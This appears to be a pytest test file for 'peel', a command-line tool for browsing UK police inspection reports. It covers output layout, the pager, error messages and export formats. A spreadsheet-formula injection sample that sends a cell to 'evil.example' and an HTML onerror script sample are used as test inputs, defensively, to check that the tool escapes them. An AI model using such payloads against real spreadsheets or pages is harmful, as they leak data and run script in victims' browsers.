"""Output that loses nothing: every word at any width, no trailing spaces, a pager as git's,
one-line usage errors, a reason for every empty result, and every field in every format.

Layout and pager run the installed `peel` on a pseudo-terminal; the rest in pipes."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import re
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from conftest import make_corpus, run_on_terminal
from hostile_support import SGR, report_data, write_report

Peel = Callable[..., Any]
LINUX = sys.platform.startswith("linux")
pty_only = pytest.mark.skipif(not LINUX, reason="needs a Linux pty")
WIDTHS = [40, 60, 80, 200]
LEGEND = ["OUT outstanding", "GOOD good", "ADQ adequate", "RI requires improvement"]
LEGEND += ["INAD inadequate", "n/g ungraded", "n/s not stated"]
NO_PAGER = {"PEEL_PAGER": ""}


def words(text: str) -> list[str]:
    return text.split()


def screen_words(screen: str) -> set[str]:
    plain = SGR.sub("", screen)
    plain = re.sub("[│┃━─╇┼]", " ", plain)
    return set(plain.split())


def texts_of(peel: Peel, args: list[str], keys: set[str]) -> list[str]:
    """The texts of the fields a command's layout shows, from its JSON."""
    out: list[str] = []

    def walk(value: Any, key: str = "") -> None:
        if isinstance(value, str) and key in keys:
            out.append(value)
        elif isinstance(value, list):
            for item in value:
                walk(item, key)
        elif isinstance(value, dict):
            for name, item in value.items():
                if name != "matches":  # the matched words, shown highlighted in the text
                    walk(item, name)

    walk(json.loads(peel(*args, "--json").stdout))
    return out


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> Path:
    directory = tmp_path_factory.mktemp("corpus")
    make_corpus(directory, 2)
    return directory


# --- nothing is cut ----------------------------------------------------------------------

# Each layout and the fields of its JSON record that it shows.
SHOWN = {
    ("grades",): {"force", "title", "question"},
    ("findings",): {"force", "text"},
    ("questions",): {"force", "title", "judgement", "summary", "note"},
    ("show", "E3", "--force", "kent"): {
        "force",
        "title",
        "judgement",
        "summary",
        "note",
        "text",
        "lead_in",
    },
    ("search", "domestic abuse"): {"force", "text", "question"},
    ("grades", "--grid"): {"force"},
}
LAYOUTS = [list(args) for args in SHOWN]


@pty_only
@pytest.mark.parametrize("columns", WIDTHS)
@pytest.mark.parametrize("args", LAYOUTS, ids=" ".join)
def test_every_word_of_every_cell_appears_at_any_width(
    peel: Peel, corpus: Path, args: list[str], columns: int
) -> None:
    shown = run_on_terminal(*args, "--data", str(corpus), columns=columns, env=NO_PAGER)
    assert shown.status == 0, shown.stderr
    assert "…" not in shown.screen
    seen = screen_words(shown.screen)
    texts = texts_of(peel, [*args, "--data", str(corpus)], SHOWN[tuple(args)])
    wanted = {w for t in texts for w in words(t)}
    assert wanted
    missing = sorted(w for w in wanted if w not in seen)
    assert missing == [], f"{len(missing)} words cut at {columns} columns: {missing[:10]}"
    for line in SGR.sub("", shown.screen).splitlines():
        assert len(line) <= columns, line


@pty_only
@pytest.mark.parametrize("columns", WIDTHS)
def test_a_table_too_wide_becomes_records_not_a_cut_table(columns: int) -> None:
    shown = SGR.sub("", run_on_terminal("findings", columns=columns, env=NO_PAGER).screen)
    if columns >= 80:
        assert "┃ Text" in shown
    else:
        assert "┃" not in shown
        assert re.search(r"^Text +The force should ensure that", shown, re.MULTILINE)
        assert re.search(r"^Kind +area for improvement$", shown, re.MULTILINE)


@pytest.mark.parametrize("columns", ["20", "40", "60", "80", "200"])
@pytest.mark.parametrize(
    "args", [*LAYOUTS, ["questions", "--brief"], ["show", "E3.R4", "--force", "kent"]]
)
def test_piped_output_has_no_trailing_spaces(
    peel: Peel, corpus: Path, args: list[str], columns: str
) -> None:
    done = peel(*args, "--data", str(corpus), env={"COLUMNS": columns})
    assert done.returncode == 0, done.stderr
    trailing = [line for line in done.stdout.splitlines() if line != line.rstrip()]
    assert trailing == []


@pytest.mark.parametrize("columns", range(24, 110, 7))
def test_the_grid_legend_breaks_between_entries(peel: Peel, columns: int) -> None:
    done = peel("grades", "--grid", env={"COLUMNS": str(columns)})
    lines = done.stdout.splitlines()
    start = next(i for i, line in enumerate(lines) if line.startswith("OUT outstanding"))
    legend = lines[start:]
    assert [entry for line in legend for entry in line.split(" · ")] == LEGEND
    assert all(len(line) <= columns for line in legend)


@pty_only
def test_wide_and_invisible_characters_keep_columns_aligned(tmp_path: Path) -> None:
    cjk = "警察は地域社会と協力して犯罪を防止し、反社会的行動に取り組むべきである。" * 3
    path = write_report(
        tmp_path / "wide.yaml", report_data(cjk, "zero\u200bwidth\u2060joined text")
    )
    shown = run_on_terminal("findings", "--data", str(path), columns=80, env=NO_PAGER)
    assert shown.status == 0, shown.stderr
    from rich.cells import cell_len

    table = [line for line in SGR.sub("", shown.screen).splitlines() if "│" in line]
    positions = {
        tuple(cell_len(line[:i]) for i, c in enumerate(line) if c == "│") for line in table
    }
    assert len(positions) == 1, positions  # every separator in the same column
    flat = "".join(SGR.sub("", shown.screen).split())
    assert cjk in re.sub("[│┃━─╇┼]", "", flat)


# --- the pager ---------------------------------------------------------------------------

# A pager that says what it was given: how many lines, and whether they were coloured.
RECORDER = (
    f'{sys.executable} -c "import sys; t = sys.stdin.read(); '
    "print('PAGED', len(t.splitlines()), 'colour' if chr(27) + '[' in t else 'plain')\""
)


@pty_only
def test_output_taller_than_the_screen_goes_through_the_pager_in_colour() -> None:
    shown = run_on_terminal("findings", lines=24, env={"PEEL_PAGER": RECORDER})
    assert shown.status == 0, shown.stderr
    assert re.fullmatch(r"PAGED \d+ colour\n", shown.screen)


@pty_only
def test_output_that_fits_the_screen_is_not_paged() -> None:
    shown = run_on_terminal("show", "E2.A1", lines=60, env={"PEEL_PAGER": RECORDER})
    assert "PAGED" not in shown.screen
    assert "E2.A1" in shown.screen


@pty_only
@pytest.mark.parametrize(
    "how",
    [{"args": ["--no-pager"]}, {"env": {"PEEL_PAGER": ""}}, {"args": ["--no-pager"], "first": 1}],
    ids=["--no-pager", "PEEL_PAGER empty", "--no-pager before the command"],
)
def test_the_pager_can_be_turned_off(how: dict[str, Any]) -> None:
    args = ["findings", *how.get("args", [])]
    if how.get("first"):
        args = [*how["args"], "findings"]
    env = {"PAGER": RECORDER, "PEEL_PAGER": RECORDER, **how.get("env", {})}
    shown = run_on_terminal(*args, lines=24, env=env)
    assert shown.status == 0, shown.stderr
    assert "PAGED" not in shown.screen
    assert "E4.A5" in shown.screen


@pty_only
def test_pager_falls_back_to_pager_then_less(tmp_path: Path) -> None:
    shown = run_on_terminal("findings", env={"PAGER": RECORDER})
    assert shown.screen.startswith("PAGED")
    fake = tmp_path / "less"
    fake.write_text('#!/bin/sh\necho "less $*"; cat > /dev/null\n')
    fake.chmod(0o755)
    import os

    path = f"{tmp_path}{os.pathsep}{os.environ['PATH']}"
    shown = run_on_terminal("findings", env={"PATH": path})
    assert shown.screen.strip() == "less -FRX"


@pty_only
def test_a_missing_pager_gives_plain_output_and_no_error() -> None:
    shown = run_on_terminal("findings", env={"PEEL_PAGER": "no-such-pager-program -x"})
    assert (shown.status, shown.stderr) == (0, "")
    assert "E4.A5" in shown.screen


# A pager as less is: it reads a screenful, then waits for a key; it says in a file when it
# began, which signal it got, and that it ended.
WAITING_PAGER = """
import os, signal, sys, time
record = open(sys.argv[1], "a", buffering=1)
def on(signum, frame):
    record.write(f"signal {signum}\\n")
    record.write("ended\\n")
    os._exit(0)
signal.signal(signal.SIGTERM, on)
signal.signal(signal.SIGHUP, on)
record.write(f"began {os.getpid()}\\n")
sys.stdin.buffer.read(2000)
while True:
    time.sleep(0.01)
"""


def _wait_for(path: Path, text: str, seconds: float = 30) -> str:
    import time

    deadline = time.monotonic() + seconds  # how long to wait for it, not how fast it is
    while time.monotonic() < deadline:
        found = path.read_text() if path.exists() else ""
        if text in found:
            return found
        time.sleep(0.02)
    pytest.fail(f"{text!r} never came: {found!r}")


@pty_only
@pytest.mark.parametrize("signum", ["SIGTERM", "SIGHUP"])
def test_a_signal_to_peel_reaches_the_pager_and_peel_ends_after_it(
    tmp_path: Path, signum: str
) -> None:
    import fcntl
    import os
    import pty
    import signal
    import struct
    import subprocess
    import termios

    from conftest import peel_executable

    script, record = tmp_path / "pager.py", tmp_path / "record"
    script.write_text(WAITING_PAGER)
    master, slave = pty.openpty()
    fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", 24, 80, 0, 0))
    proc = subprocess.Popen(
        [peel_executable(), "findings"],
        stdin=slave,
        stdout=slave,
        stderr=subprocess.PIPE,
        env={**os.environ, "TERM": "xterm", "PEEL_PAGER": f"{sys.executable} {script} {record}"},
    )
    os.close(slave)
    pager = 0
    try:
        pager = int(_wait_for(record, "began ").split()[1])
        proc.send_signal(getattr(signal, signum))
        assert proc.wait(timeout=30) == 128 + getattr(signal, signum)
        # The pager got the signal, and had ended before peel did: nothing is left reading
        # the terminal.
        assert record.read_text().splitlines()[1:] == [
            f"signal {getattr(signal, signum)}",
            "ended",
        ]
        assert proc.stderr is not None and b"Traceback" not in proc.stderr.read()
    finally:
        if proc.poll() is None:
            proc.kill()
        if pager:
            with contextlib.suppress(ProcessLookupError):
                os.kill(pager, signal.SIGKILL)  # left behind, if peel left it
        os.close(master)


def test_a_pipe_is_never_paged(peel: Peel) -> None:
    done = peel("findings", env={"PEEL_PAGER": RECORDER, "PAGER": RECORDER})
    assert "PAGED" not in done.stdout
    assert "E4.A5" in done.stdout


# --- usage errors --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["grade"], "no such command 'grade'; did you mean 'grades'?"),
        (["grades", "--dat", "x"], "no such option: --dat; did you mean --data or --format?"),
        (["show"], "missing argument 'ID...'"),
        (["findings", "--kind"], "option '--kind' requires an argument"),
        (
            ["grades", "--format", "xml"],
            "invalid value for '--format' / '-f': 'xml' is not one of 'table', 'json', "
            "'jsonl', 'csv', 'markdown'",
        ),
        (["grades", "--year", "x"], "invalid value for '--year': 'x' is not a valid int"),
        (["--data", "x"], "no command given, such as: peel --data x grades"),
    ],
)
def test_every_usage_error_is_one_line(peel: Peel, args: list[str], message: str) -> None:
    done = peel(*args)
    assert (done.returncode, done.stdout) == (2, "")
    assert done.stderr == f"peel: error: {message}\n"


@pytest.mark.parametrize(
    "args",
    [
        ["--data", "DATA", "grades", "--json"],
        ["--json", "--data=DATA", "grades"],
        ["-f", "json", "--force", "metro", "--year", "2016", "grades"],
        ["--no-color", "--json", "grades", "--data", "DATA"],
    ],
)
def test_shared_options_may_come_before_the_command(peel: Peel, args: list[str]) -> None:
    dataset = str(Path(__file__).resolve().parent.parent / "data" / "metropolitan_2016.yaml")
    done = peel(*[a.replace("DATA", dataset) for a in args])
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["questions"][2]["grade"] == "inadequate"


# --- empty results -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("args", "lines"),
    [
        (
            ["search", "missing children"],
            [
                'peel: no findings match "missing children"',
                "peel: A phrase in quotes matches only its words side by side; leave out the "
                "quotes to find the words anywhere.",
            ],
        ),
        (
            ["search", "capacity and capability"],
            [
                'peel: no findings match "capacity and capability"',
                "peel: Judgements or summaries match: add --all-text to search them too.",
                "peel: A phrase in quotes matches only its words side by side; leave out the "
                "quotes to find the words anywhere.",
            ],
        ),
        (
            ["findings", "--year", "2015"],
            ["peel: no report is from --year 2015", "peel: Years loaded: 2016."],
        ),
        (
            ["grades", "--force", "kent"],
            [
                "peel: no report's force matches --force 'kent'",
                "peel: Forces loaded: Metropolitan Police Service.",
            ],
        ),
        (
            ["findings", "--question", "E1", "--kind", "coc"],
            ["peel: no findings match --question E1 --kind cause_of_concern"],
        ),
        (
            ["questions", "--grade", "outstanding"],
            ["peel: no questions match --grade 'outstanding'"],
        ),
    ],
)
def test_an_empty_result_says_why_and_exits_1(
    peel: Peel, args: list[str], lines: list[str]
) -> None:
    done = peel(*args)
    assert (done.returncode, done.stdout) == (1, "")
    assert done.stderr.splitlines() == lines


@pty_only
def test_an_empty_result_on_a_terminal_says_so_on_stderr() -> None:
    shown = run_on_terminal("search", "missing children")
    assert shown.status == 1
    assert shown.screen == ""
    assert shown.stderr.startswith('peel: no findings match "missing children"\n')


def test_an_empty_result_is_still_a_document_for_programs(peel: Peel) -> None:
    done = peel("findings", "--force", "Atlantis", "--json")
    assert (done.returncode, json.loads(done.stdout)) == (1, [])
    done = peel("search", "zebra", "--format", "csv")
    assert done.returncode == 1
    assert done.stdout.startswith("force,year,id,")


def test_an_unknown_question_is_a_usage_error_with_suggestions(peel: Peel) -> None:
    done = peel("findings", "--question", "E9")
    assert (done.returncode, done.stdout) == (2, "")
    assert done.stderr == (
        "peel: error: no question has the ID 'E9'\npeel: Did you mean E5, E4, E3, E2?\n"
    )


# --- formats -------------------------------------------------------------------------------

COMMANDS = [
    ["grades"],
    ["grades", "--grid"],
    ["questions"],
    ["show", "E3"],
    ["show", "E3.R4"],
    ["findings"],
    ["search", "abuse", "--all-text"],
]


@pytest.mark.parametrize("fmt", ["TABLE", "Json", "JSONL", "csv", "MarkDown"])
@pytest.mark.parametrize("args", COMMANDS, ids=" ".join)
def test_every_command_takes_every_format_in_any_case(
    peel: Peel, args: list[str], fmt: str
) -> None:
    done = peel(*args, "-f", fmt)
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip()


@pytest.mark.parametrize("args", COMMANDS, ids=" ".join)
def test_csv_and_markdown_carry_every_field_of_the_json_record(peel: Peel, args: list[str]) -> None:
    lines = [json.loads(line) for line in peel(*args, "-f", "jsonl").stdout.splitlines()]
    fields = set().union(*(set(r) for r in lines))
    header = next(csv.reader(io.StringIO(peel(*args, "-f", "csv").stdout)))
    assert fields <= set(header)
    if args[0] not in ("show", "questions"):  # those two give a briefing
        markdown = peel(*args, "-f", "markdown").stdout.splitlines()[0]
        headers = [h.strip() for h in markdown.strip("|").split("|")]
        assert len(headers) == len(header)
        assert not [h for h in headers if "_" in h]


def test_a_recommendation_in_csv_keeps_its_lead_in_and_cause(peel: Peel) -> None:
    rows = list(csv.DictReader(io.StringIO(peel("findings", "-k", "rec", "-f", "csv").stdout)))
    assert rows[0]["cause_id"] == "E3.C1"
    assert rows[0]["lead_in"] == (
        "The force should immediately take steps to improve its services to vulnerable people by:"
    )


def test_search_csv_has_the_paragraph_and_the_matches(peel: Peel) -> None:
    rows = list(csv.DictReader(io.StringIO(peel("search", "-a", "detectives", "-f", "csv").stdout)))
    summary = next(r for r in rows if r["kind"] == "summary")
    assert summary["paragraph"].isdigit()
    assert json.loads(summary["matches"])[0]["text"] == "detectives"


FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A2,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTAB=1+1",
]


def test_csv_cells_never_start_a_spreadsheet_formula(peel: Peel, tmp_path: Path) -> None:
    path = write_report(tmp_path / "formula.yaml", report_data(*FORMULAS, force="Test Police"))
    for args in (["findings"], ["questions"], ["grades"], ["search", "-a", "1"]):
        out = peel(*args, "--data", str(path), "-f", "csv").stdout
        for row in csv.reader(io.StringIO(out)):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    rows = list(
        csv.DictReader(io.StringIO(peel("findings", "--data", str(path), "-f", "csv").stdout))
    )
    assert {r["text"] for r in rows} <= {"'" + f for f in FORMULAS}
    exact = json.loads(peel("findings", "--data", str(path), "--json").stdout)
    assert {r["text"] for r in exact} <= set(FORMULAS)  # JSON stays exact


def test_markdown_escapes_html_and_pipes(peel: Peel, tmp_path: Path) -> None:
    text = '<img src=x onerror="alert(1)"> a|b & c'
    path = write_report(tmp_path / "html.yaml", report_data(text, force="Test Police"))
    for args in (["findings"], ["show", "E1"], ["questions"], ["show", "E1.R1"]):
        out = peel(*args, "--data", str(path), "-f", "markdown").stdout
        assert "<img" not in out and "&lt;img" in out
        assert "&amp; c" in out
    table = peel("findings", "--data", str(path), "-f", "markdown").stdout
    assert "a\\|b" in table


def test_show_in_markdown_is_a_briefing(peel: Peel) -> None:
    out = peel("show", "E3", "-f", "markdown").stdout
    assert out.startswith("# Metropolitan Police Service · PEEL 2016 · HMIC\n")
    assert "\n## E3 How effective is the force at protecting those who are vulnerable" in out
    assert "\n**Grade:** inadequate\n" in out
    assert "\n**Judgement:** The Metropolitan Police Service is inadequate" in out
    recommendations = out.split("#### Recommendations\n\n", 1)[1].splitlines()
    assert recommendations[0].startswith("The force should immediately take steps")
    assert recommendations[2].startswith("- **E3.R1** developing its understanding")


def test_questions_in_markdown_is_a_briefing(peel: Peel) -> None:
    out = peel("questions", "--brief", "-f", "markdown").stdout
    assert out.count("\n## E") == 5
    assert "**Grade:** requires improvement" in out
    assert "\n**Judgement:** " in out


def test_show_takes_several_ids_and_a_pillar(peel: Peel) -> None:
    several = json.loads(peel("show", "E3.R4", "e2", "--json").stdout)
    assert [r["id"] for r in several] == ["E3.R4", "E2"]
    pillar = json.loads(peel("show", "E", "--json").stdout)
    assert [r["id"] for r in pillar] == ["E", "E1", "E2", "E3", "E4", "E5"]  # the pillar first
    assert json.loads(peel("show", "E3", "--json").stdout)["id"] == "E3"  # one: its record
    text = peel("show", "E1.A1", "E3.R4").stdout
    assert "E1.A1  area for improvement" in text and "E3.R4  recommendation" in text


def test_kind_takes_the_legend_short_forms(peel: Peel) -> None:
    for short, kind in (("afi", "area_for_improvement"), ("coc", "cause_of_concern")):
        rows = json.loads(peel("findings", "--kind", short, "--json").stdout)
        assert rows and {r["kind"] for r in rows} == {kind}
    rows = json.loads(peel("findings", "-k", "REC", "--json").stdout)
    assert {r["kind"] for r in rows} == {"recommendation"}
    assert "(coc)" in peel("findings", "-h", env={"COLUMNS": "200"}).stdout


# --- small things --------------------------------------------------------------------------

COMMAND_NAMES = ["grades", "questions", "show", "findings", "search", "validate", "schema"]
COMMAND_NAMES += ["import"]


@pytest.mark.parametrize("columns", ["60", "80", "200"])
@pytest.mark.parametrize("command", [[], *([c] for c in COMMAND_NAMES)], ids=str)
def test_help_has_one_placeholder_style_and_nothing_cut(
    peel: Peel, command: list[str], columns: str
) -> None:
    done = peel(*command, "-h", env={"COLUMNS": columns})
    assert done.returncode == 0
    text = done.stdout
    assert not re.search(r"<\w+>|\{[A-Z_.]+\}|<table", text), text
    assert "pbpaste" not in text and "..." not in text.split("Commands:")[-1].replace(
        "ID...", ""
    ).replace("TERMS...", "").replace("[PATH]...", "").replace("PATH...", "")
    assert "Examples:\n\n" in text
    examples = text.split("Examples:\n\n", 1)[-1].split("\n\n")[0].splitlines()
    for example in examples:  # laid out alike, one a line, never wrapped
        assert example.startswith("    peel "), example


def test_validate_names_the_files_it_checked(peel: Peel, tmp_path: Path) -> None:
    make_corpus(tmp_path, 2)
    done = peel("validate", str(tmp_path))
    assert done.stdout == (
        f"{tmp_path / '000.yaml'}: valid\n{tmp_path / '001.yaml'}: valid\n2 file(s) valid\n"
    )


def test_validate_of_a_report_text_suggests_import(peel: Peel) -> None:
    source = Path(__file__).resolve().parent.parent / "data" / "source" / "metropolitan_2016.txt"
    done = peel("validate", str(source))
    assert done.returncode == 2
    assert done.stderr.splitlines()[-1] == (
        f"peel: Is {source} a report's text? Make a dataset of it: peel import {source}"
    )


def test_schema_names_its_dialect_and_itself(peel: Peel) -> None:
    schema = json.loads(peel("schema").stdout)
    assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    assert schema["$id"] == "urn:peelcli:dataset:report"
    assert schema["title"] == "Report"


def test_questions_begins_with_the_force_and_year(peel: Peel) -> None:
    for args in (["questions"], ["grades"], ["show", "E1"]):
        first = peel(*args).stdout.splitlines()[0]
        assert first == "Metropolitan Police Service · PEEL 2016 · HMIC", args


def test_main_help_paragraphs_are_not_broken_by_hand(peel: Peel) -> None:
    # Every paragraph is wrapped to the terminal, none at a line break in the source: each
    # line but a paragraph's last is filled to near the width.
    text = peel("-h", env={"COLUMNS": "70"}).stdout
    for paragraph in text.split("\n\n"):
        lines = paragraph.splitlines()
        if lines and lines[0].startswith("  ") and not lines[0].startswith("    "):
            assert all(len(line) > 50 for line in lines[:-1]), paragraph


def test_a_briefing_never_lets_text_start_markdown_blocks(peel: Peel, tmp_path: Path) -> None:
    texts = ["# not a heading", "> not a quote", "- not a list", "1. not numbered"]
    path = write_report(tmp_path / "blocks.yaml", report_data(*texts, force="Test Police"))
    out = peel("show", "E1", "--data", str(path), "-f", "markdown").stdout
    lines = out.splitlines()
    for text in texts:
        assert text not in lines  # never a line of its own, unescaped
    assert "\\# not a heading" in out and "&gt; not a quote" in out
    assert "\n1\\. not numbered\n" in out and "\n\\- not a list\n" in out


def test_validate_of_a_missing_file_does_not_suggest_import(peel: Any) -> None:
    done = peel("validate", "no-such-report.txt")
    assert done.returncode == 2
    assert "peel import" not in done.stderr
    assert "no-such-report.txt: no such file or directory" in done.stderr
